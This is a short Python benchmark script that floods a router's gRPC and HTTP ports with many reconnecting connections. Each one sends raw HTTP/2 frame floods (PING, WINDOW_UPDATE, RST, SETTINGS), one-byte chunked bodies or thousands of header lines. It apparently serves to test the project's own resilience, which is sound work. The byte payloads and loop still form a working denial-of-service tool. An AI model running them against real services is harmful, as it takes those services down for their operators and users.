"""Attacks a router until it is ended: python -m bench.floods KIND COUNT GRPC HTTP, with so many
connections at 4 MB/s each. One that is cut off connects again at once. None has a token."""

from __future__ import annotations

import contextlib
import os
import socket
import sys
import threading
import time

RATE, PIECE = 4 << 20, 64 << 10  # bytes a second, and at once
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"
_RESET = b"\0\0\x04\x03\0\0\0\0\x01\0\0\0\x08"
_CLOSED = PREFACE + b"\0\0\x05\x01\x04\0\0\0\x01\x83\x86\x04\x01/" + _RESET  # a stream
_CHUNKED = b"POST %s HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n"
FLOODS: dict[str, tuple[bytes, bytes]] = {  # what comes first, and again and again
    "WINDOW_UPDATE": (PREFACE, b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01"),
    "unknown frames": (PREFACE, b"\0\0\0\xfa\0\0\0\0\0"),
    "PING": (PREFACE, b"\0\0\x08\x06\0\0\0\0\0pingping"),
    "PING answers": (PREFACE, b"\0\0\x08\x06\x01\0\0\0\0pingping"),
    "SETTINGS answers": (PREFACE, b"\0\0\0\x04\x01\0\0\0\0"),
    "DATA, stream closed": (_CLOSED, b"\0\0\0\0\0\0\0\0\x01"),
    "RST, stream closed": (_CLOSED, _RESET),
    "chunks of a byte": (_CHUNKED % b"/v1/completions", b"1\r\nx\r\n"),
    "chunks, refused": (_CHUNKED % b"/nowhere", b"1\r\nx\r\n"),
    "header lines": (b"", b"GET /health HTTP/1.1\r\n" + b"a:\r\n" * 8000 + b"\r\n"),
    "new connections": (b"", b""),
}


def attack(kind: str, address: str) -> None:
    first, again = FLOODS[kind]
    piece = again * (PIECE // max(1, len(again)))
    host, _, port = address.rpartition(":")
    while True:
        with contextlib.suppress(OSError), socket.create_connection((host, int(port))) as to:
            to.sendall(first)
            while piece:
                to.sendall(piece)
                time.sleep(len(piece) / RATE)


if __name__ == "__main__":
    os.nice(10)  # attackers have machines of their own
    kind, count, grpc, http = sys.argv[1:]
    target = http if kind.startswith(("chunks", "header")) else grpc
    for _ in range(int(count)):
        threading.Thread(target=attack, args=(kind, target)).start()
    threading.Event().wait()
